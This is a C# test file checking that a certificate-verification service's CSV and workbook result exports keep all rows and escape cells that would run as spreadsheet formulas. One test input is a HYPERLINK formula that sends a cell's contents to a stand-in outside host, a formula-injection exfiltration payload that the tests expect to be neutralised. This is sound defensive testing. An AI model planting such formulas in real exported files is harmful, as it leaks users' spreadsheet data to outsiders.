using System.Net;
using System.Net.Http.Headers;
using System.Text;
using CertVerify.Adapters.Lists;

namespace CertVerify.Functions.Tests.Batches;

/// <summary>Results for spreadsheets: all rows, and nothing that a spreadsheet would run.</summary>
public sealed class ResultFilesTests(TestService service) : IClassFixture<TestService>
{
    private const string Formula = "=HYPERLINK(\"http://elsewhere.example/?\"&A1,\"open\")";

    [Theory]
    [InlineData("text/csv")]
    [InlineData(Sending.Workbook)]
    public async Task Every_row_is_there_and_no_cell_is_a_formula(string type)
    {
        var rows = await RowsAsync(type, $"reference,certificateNumber\n\"{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",@EX-1\nS-2,EX-2\n-3,\n");

        Assert.Equal(["'" + Formula, "S-2", "'-3"], rows.Select(row => row["reference"]));
        Assert.Equal(["'@EX-1", "EX-2", ""], rows.Select(row => row["certificateNumber"]));
        Assert.Equal(["indeterminate", "indeterminate", ""], rows.Select(row => row["indication"]));
        Assert.Equal("Give a certificate number or send a file.", rows[2]["because"]);
        Assert.All(rows.Take(2), row => Assert.Matches("^[0-9a-z]{34}$", row["verificationId"]));
    }

    [Fact]
    public async Task A_list_of_results_can_be_handed_in_again()
    {
        using var workbook = new MemoryStream();
        await TableFile.WriteWorkbookAsync(workbook, "Suppliers", ["reference", "certificateNumber"], new IReadOnlyList<string?>[] { ["S-1", "EX-1"], ["S-2", "EX-2"] }.ToAsyncEnumerable(), CancellationToken.None);

        var items = await service.Client.VerifiedAsync(Sending.Bytes(workbook.ToArray(), Sending.Workbook));

        Assert.Equal(["S-1 EX-1", "S-2 EX-2"], items.Select(item => $"{item.Text("reference")} {item.Text("certificateNumber")}"));
    }

    [Fact]
    public async Task Who_accepts_none_of_the_forms_is_told()
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/api/v1/batches/any/results") { Headers = { Accept = { new("application/pdf") } } };

        await ProblemAssert.IsAsync(await service.Client.SendAsync(request), HttpStatusCode.NotAcceptable, "not-acceptable");
    }

    private async Task<List<Dictionary<string, string>>> RowsAsync(string type, string csv)
    {
        var batch = await service.Client.FinishedAsync(await service.Client.PostCsvAsync(csv));
        using var request = new HttpRequestMessage(HttpMethod.Get, batch.Text("results")) { Headers = { Accept = { new(type), new("application/json", 0.5) } } };
        using var answer = await service.Client.SendAsync(request);
        Assert.Equal((type, "attachment"), (answer.Content.Headers.ContentType!.MediaType, answer.Content.Headers.ContentDisposition!.DispositionType));
        using var list = ListFile.Open(await answer.Content.ReadAsByteArrayAsync(), column => column == "certificateNumber");
        return [.. list.Rows().Select(row => list.Columns.Zip(row.Cells).ToDictionary(cell => cell.First, cell => cell.Second))];
    }
}
